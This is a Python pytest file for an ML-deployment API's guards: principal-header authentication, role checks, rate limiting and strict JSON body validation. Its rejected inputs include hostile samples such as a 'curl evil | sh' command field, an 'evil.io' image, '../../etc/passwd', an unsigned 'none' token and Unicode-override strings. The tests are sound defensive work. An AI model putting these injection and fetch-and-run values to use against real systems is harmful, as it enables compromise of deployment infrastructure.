"""The manual API's guards: the App Service principal (401), app roles (403), the
per-principal rate limit (429), and strict request bodies (415, 413, 400)."""

from __future__ import annotations

import base64
import json
from collections.abc import Mapping, Sequence
from dataclasses import replace
from typing import Any

import pytest

from shared import bootstrap
from shared.domain.values import Stored
from shared.services.api_guard import RATE
from shared.services.rollouts import ROLLOUT
from tests.conftest import World
from tests.fakes import InMemoryStateStore
from tests.unit.test_api_helpers import (
    ALICE,
    ALICE_OID,
    BOB,
    BOB_OID,
    ENDPOINT,
    MODEL,
    call,
    principal_header,
    redeploy,
    serve,
)


def b64(document: Any) -> str:
    return base64.b64encode(json.dumps(document).encode()).decode()


def claims(*pairs: tuple[str, str], **extra: Any) -> str:
    return b64({"auth_typ": "aad", "claims": [{"typ": t, "val": v} for t, v in pairs], **extra})


OID = "http://schemas.microsoft.com/identity/claims/objectidentifier"

# 401 -------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    "header",
    [
        "",
        "not base64!",
        base64.b64encode(b"not json").decode(),
        b64(["a", "list"]),
        b64({"auth_typ": "aad"}),  # no claims
        b64({"claims": "roles=MLOps.Deployer"}),
        b64({"claims": [{"typ": OID}]}),  # a claim without a value
        b64({"claims": [["typ", "val"]]}),
        claims(("name", "mallory"), ("roles", "MLOps.Deployer")),  # no object id
        claims((OID, "../../etc/passwd"), ("roles", "MLOps.Deployer")),
        claims((OID, "x" * 200), ("roles", "MLOps.Deployer")),
        claims((OID, ALICE_OID), ("roles", "MLOps.Deployer"), name_typ=7),
        base64.urlsafe_b64encode(b'{"claims": [{"typ": "oid", "val": "\xff\xfe"}]}').decode(),
        "A" * 20_000,
    ],
)
def test_no_valid_principal_is_401_with_a_challenge_and_is_audited(
    world: World, header: str
) -> None:
    reply = redeploy("1", principal=header)
    assert (reply.status, reply.body["error"]) == (401, "unauthenticated")
    assert reply.headers["www-authenticate"].startswith("Bearer")
    [refusal] = world.audit.entries
    assert (refusal.actor, refusal.action, refusal.outcome) == (
        "anonymous",
        "api.redeploy",
        "rejected",
    )
    assert world.state.list(ROLLOUT) == []


def test_a_bearer_token_alone_is_not_a_principal(world: World) -> None:
    """Only App Service Authentication's header counts; the function never reads the token."""
    reply = call(
        "api_list_endpoints",
        principal=None,
        headers={"Authorization": "Bearer eyJhbGciOiJub25lIn0.eyJyb2xlcyI6WyJ4Il19."},
    )
    assert reply.status == 401


def test_the_principal_header_name_is_case_insensitive(world: World) -> None:
    reply = call("api_list_endpoints", principal=None, headers={"x-ms-client-principal": BOB})
    assert reply.status == 200


@pytest.mark.parametrize(
    ("header", "roles"),
    [
        (principal_header(oid_typ="oid"), ["MLOps.Deployer"]),
        (
            principal_header(
                role_typ="http://schemas.microsoft.com/ws/2008/06/identity/claims/role"
            ),
            ["MLOps.Deployer"],
        ),
        (principal_header(role_typ="groups-and-roles"), ["MLOps.Deployer"]),
        (
            claims((OID, ALICE_OID), ("roles", "MLOps.Reader"), ("roles", "MLOps.Deployer")),
            ["MLOps.Reader", "MLOps.Deployer"],
        ),
    ],
)
def test_object_id_and_roles_are_read_from_each_documented_claim_type(
    world: World, header: str, roles: list[str]
) -> None:
    serve(world, "1", "2")
    assert redeploy("1", principal=header).status == 202
    [accepted] = [e for e in world.audit.entries if e.action == "operator.redeploy"]
    assert accepted.actor == f"user:{ALICE_OID}"
    assert accepted.details["principal"]["roles"] == roles


def test_control_characters_in_a_name_do_not_reach_the_audit_trail(world: World) -> None:
    serve(world, "1", "2")
    header = principal_header(name="alice\n[forged] admin\u202e", roles=("MLOps.Deployer",))
    assert redeploy("1", principal=header).status == 202
    names = {
        e.details["principal"]["name"] for e in world.audit.entries if "principal" in e.details
    }
    assert names == {"alice[forged] admin"}


# 403 -------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("roles", "function"),
    [
        (("MLOps.Reader",), "api_redeploy"),
        (("MLOps.Reader",), "api_rollback"),
        ((), "api_list_endpoints"),
        (("mlops.deployer", "MLOps.Admin"), "api_redeploy"),  # role names are exact
        (("Contributor",), "api_get_endpoint"),
    ],
)
def test_a_principal_without_the_role_is_403_audited_and_changes_nothing(
    world: World, roles: Sequence[str], function: str
) -> None:
    serve(world, "1", "2")
    before = len(world.audit.entries)
    header = principal_header(BOB_OID, "bob", roles)
    reply = call(
        function,
        principal=header,
        route_params={"endpoint": ENDPOINT},
        body={"model": MODEL, "version": "1", "reason": "x"},
    )
    assert (reply.status, reply.body["error"]) == (403, "forbidden")
    [refusal] = world.audit.entries[before:]
    assert (refusal.actor, refusal.outcome) == (f"user:{BOB_OID}", "rejected")
    assert refusal.details["principal"]["roles"] == list(roles)
    assert "role" in refusal.reason
    assert len(world.state.list(ROLLOUT)) == 2


def test_a_reader_reads(world: World) -> None:
    assert call("api_list_endpoints", principal=BOB).status == 200


# 429 -------------------------------------------------------------------------------------


def test_past_the_rate_limit_a_principal_gets_429_until_the_next_minute(world: World) -> None:
    world.clock.advance(15)  # 15 s into the window: 45 s to its end
    for _ in range(30):
        assert call("api_list_endpoints", principal=BOB).status == 200
    for _ in range(3):
        limited = call("api_list_endpoints", principal=BOB)
        assert (limited.status, limited.body["error"]) == (429, "rate_limited")
        assert limited.headers["retry-after"] == "45"
    assert call("api_list_endpoints", principal=ALICE).status == 200  # per principal

    refusals = [e for e in world.audit.entries if e.outcome == "rejected"]
    assert [(e.actor, e.details["status"]) for e in refusals] == [(f"user:{BOB_OID}", 429)]

    world.clock.advance(45)
    assert call("api_list_endpoints", principal=BOB).status == 200


def test_a_rate_limited_redeploy_starts_nothing(world: World) -> None:
    serve(world, "1", "2")
    for _ in range(30):
        call("api_list_endpoints", principal=ALICE)
    assert redeploy("1").status == 429
    assert len(world.state.list(ROLLOUT)) == 2


class RacingStateStore(InMemoryStateStore):
    """Another Function instance counts the same principal between our read and write."""

    def __init__(self, races: int) -> None:
        super().__init__()
        self.races = races

    def put(self, kind: str, key: str, value: Mapping[str, Any], *, etag: str | None) -> str:
        if kind == RATE and self.races:
            self.races -= 1
            current = self.get(kind, key)
            rival = {"window": value["window"], "count": (current.value["count"] if current else 0)}
            rival["count"] += 1
            super().put(kind, key, rival, etag=current.etag if current else None)
        return super().put(kind, key, value, etag=etag)


def test_concurrent_instances_each_count_against_the_same_window(world: World) -> None:
    store = RacingStateStore(races=3)
    bootstrap.install(replace(world.deps, state=store))
    for _ in range(3):
        assert call("api_list_endpoints", principal=BOB).status == 200
    [counter] = store.list(RATE)
    assert isinstance(counter, Stored)
    assert counter.value["count"] == 6  # our three calls and the rival's three


def test_the_openapi_document_is_public(world: World) -> None:
    reply = call("api_openapi", principal=None)
    assert reply.status == 200
    assert reply.body["openapi"].startswith("3.1")
    assert world.audit.entries == []


# 415, 413, 400: the body ------------------------------------------------------------------


def post_raw(body: bytes, content_type: str | None = "application/json") -> Any:
    headers = {"Content-Type": content_type} if content_type else {}
    return call("api_redeploy", route_params={"endpoint": ENDPOINT}, body=body, headers=headers)


@pytest.mark.parametrize(
    "content_type",
    [None, "text/plain", "application/x-www-form-urlencoded", "application/json; charset=latin-1"],
)
def test_a_body_that_is_not_json_is_415(world: World, content_type: str | None) -> None:
    reply = post_raw(b'{"model": "spam-classifier"}', content_type)
    assert (reply.status, reply.body["error"]) == (415, "unsupported_media_type")
    [refusal] = world.audit.entries
    assert (refusal.actor, refusal.details["status"]) == (f"user:{ALICE_OID}", 415)


def test_json_with_a_charset_parameter_is_accepted(world: World) -> None:
    serve(world, "1", "2")
    body = json.dumps({"model": MODEL, "version": "1", "reason": "r"}).encode()
    assert post_raw(body, "Application/JSON; charset=UTF-8").status == 202


def test_a_body_over_16_kib_is_413(world: World) -> None:
    reply = post_raw(b"{" + b" " * 17_000 + b"}")
    assert reply.status == 413


@pytest.mark.parametrize(
    "raw",
    [
        b"",
        b"{",
        b'{"model": "spam-classifier",}',
        b"\xff\xfe{}",
        b'{"reason": NaN}',
        b'{"reason": "a", "reason": "b"}',
        b"[" * 100_00,
    ],
)
def test_malformed_json_is_400(world: World, raw: bytes) -> None:
    reply = post_raw(raw[:16_000])
    assert (reply.status, reply.body["error"]) == (400, "malformed_json")


@pytest.mark.parametrize(
    ("body", "words"),
    [
        ([], "JSON object"),
        ({"model": MODEL, "version": "1", "reason": "r", "image": "evil.io/x:latest"}, "'image'"),
        (
            {
                "model": MODEL,
                "version": "1",
                "reason": "r",
                "instance_type": "Standard_NC24",
                "command": "curl evil | sh",
                "environment_variables": {"A": "1"},
            },
            "'command', 'environment_variables', 'instance_type'",
        ),
        ({"version": "1", "reason": "r"}, "model is required"),
        ({"model": MODEL, "reason": "r"}, "version is required"),
        ({"model": MODEL, "version": "1"}, "reason is required"),
        ({"model": MODEL, "version": "1", "reason": "   "}, "reason must not be empty"),
        ({"model": MODEL, "version": "1", "reason": "r" * 501}, "longer than 500"),
        ({"model": MODEL, "version": "1", "reason": "ok\u0000"}, "control"),
        ({"model": MODEL, "version": "1", "reason": "ok\u202egnp.exe"}, "control"),
        ({"model": MODEL, "version": 1, "reason": "r"}, "version must be a string"),
        ({"model": MODEL, "version": "../1", "reason": "r"}, "version"),
        ({"model": "-rf", "version": "1", "reason": "r"}, "model name"),
        ({"model": MODEL, "version": "1", "reason": "r", "supersede": "yes"}, "true or false"),
        ({"model": MODEL, "version": "1", "reason": "r", "supersede": 1}, "true or false"),
        ({"model": MODEL, "version": "1", "reason": ["r"]}, "reason must be a string"),
    ],
)
def test_the_request_schema_is_strict(world: World, body: Any, words: str) -> None:
    serve(world, "1", "2")
    before = len(world.audit.entries)
    reply = post_raw(json.dumps(body).encode())
    assert (reply.status, reply.body["error"]) == (400, "invalid_request")
    assert words in reply.body["message"]
    assert len(world.state.list(ROLLOUT)) == 2
    [refusal] = world.audit.entries[before:]
    assert (refusal.actor, refusal.outcome) == (f"user:{ALICE_OID}", "rejected")


def test_the_rollback_schema_is_strict_too(world: World) -> None:
    reply = call(
        "api_rollback",
        route_params={"endpoint": ENDPOINT},
        body={"reason": "r", "model": MODEL},
    )
    assert (reply.status, reply.body["error"]) == (400, "invalid_request")
    assert "'model'" in reply.body["message"]


def test_a_role_with_hidden_characters_is_not_cleaned_into_a_real_one(world: World) -> None:
    serve(world, "1", "2")
    header = principal_header(roles=("MLOps.Deployer\u200b", " MLOps.Deployer"))
    assert redeploy("1", principal=header).status == 403
